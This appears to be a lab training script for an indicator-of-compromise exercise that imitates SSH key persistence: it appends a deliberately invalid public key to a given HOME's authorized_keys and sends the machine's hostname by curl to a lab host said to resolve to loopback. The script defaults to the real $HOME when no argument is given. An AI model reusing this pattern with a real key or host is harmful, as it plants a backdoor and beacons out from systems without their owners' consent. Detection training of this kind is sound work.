#!/bin/sh
# HARMLESS LAB SAMPLE written for ioclab's ssh-authorized-keys scenario.
# It imitates SSH key persistence but is not malware: it appends a lab-only
# public key (no one holds its private half: it is not even a valid key) to
# the authorized_keys of the HOME it is given, then reports to
# keys.sshlab.lab. In the sandbox that HOME is the sandbox user's private
# one; on the endpoint the lab step gives a HOME under /tmp, never a real
# user's ~/.ssh, and the scenario's cleanup removes it. In the lab,
# keys.sshlab.lab resolves to 127.0.22.80, a loopback sink of the lab
# network: nothing leaves the machine.
home=${1:-$HOME}
mkdir -p "$home/.ssh"
chmod 700 "$home/.ssh"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGlvY2xhYi1sYWItbm90LWEtcmVhbC1rZXktMDAwMDAw IOCLAB{ssh-key-comment-is-an-ioc}" >> "$home/.ssh/authorized_keys"
chmod 600 "$home/.ssh/authorized_keys"
host=$(hostname)
curl -s -m 5 -o /dev/null "http://keys.sshlab.lab/registered?host=$host" || true
sleep 2
